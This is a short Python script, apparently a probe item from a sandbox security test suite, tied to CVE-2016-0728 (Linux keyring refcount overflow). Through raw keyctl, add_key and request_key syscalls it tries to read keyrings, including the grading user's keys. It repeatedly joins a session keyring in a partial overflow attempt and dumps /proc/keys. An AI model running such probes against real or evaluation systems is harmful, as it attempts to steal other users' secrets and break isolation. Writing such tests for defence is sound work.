"""Reads and makes keys: those of the user who grades, and references to a session until their count overflows."""

SOURCE = "CVE-2016-0728"
SUCCESS = "a key that can be read"

# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for number in range(-8, 0):  # the special keyrings: thread, process, session, user and so on
    key = libc.syscall(250, 0, number, 1)
    print(number, "SUCCEEDED" if key >= 0 else os.strerror(ctypes.get_errno()))
    if key >= 0:
        content = ctypes.create_string_buffer(4096)
        print(libc.syscall(250, 11, key, content, 4096), content.raw[:100])
overflown = 0
for _ in range(1000):
    overflown += libc.syscall(250, 1, b"@NAME@") >= 0
print(overflown, "sessions joined", "SUCCEEDED" if overflown else os.strerror(ctypes.get_errno()))
print("add", libc.syscall(248, b"user", b"@TOKEN@", b"x", 1, -4), os.strerror(ctypes.get_errno()))
print("request", libc.syscall(249, b"user", b"@TOKEN@", None, -4), os.strerror(ctypes.get_errno()))
for path in ("/proc/keys", "/proc/key-users"):
    try:
        print(open(path).read())
    except OSError as error:
        print(error)
print("attempted")
